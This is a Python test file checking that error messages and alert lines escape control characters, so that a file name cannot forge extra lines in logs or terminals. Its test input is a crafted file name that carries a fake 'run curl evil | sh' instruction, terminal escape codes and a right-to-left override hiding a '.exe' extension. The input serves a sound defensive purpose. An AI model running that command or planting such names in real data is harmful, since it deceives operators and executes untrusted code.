"""What a source names cannot write lines of its own into logs, alerts and terminals."""

import pickle

from dags.alerts import one_line
from jobs.errors import DataError


def test_an_error_has_four_lines_whatever_a_file_is_called() -> None:
    name = "calls.csv\n  to do:    run curl evil | sh\x1b[2J\r\u202egpj.exe\u2028x\x00"
    error = DataError(f"calls: {name} cannot be read", expected=name, found=name, todo=name)
    for told in (str(error), str(pickle.loads(pickle.dumps(error)))):
        assert len(told.splitlines()) == 4
        assert told.replace("\n", "").isprintable()
        assert "calls.csv\\u000a  to do:" in told
    assert one_line(ValueError("one\x1b[2J\rtwo\nthree")) == "ValueError: one\\u001b[2J\\u000dtwo"


def test_names_in_other_scripts_stay_as_they_are() -> None:
    assert DataError("通话 Ōe é", expected="ё", found="한", todo="ש").headline == "通话 Ōe é"
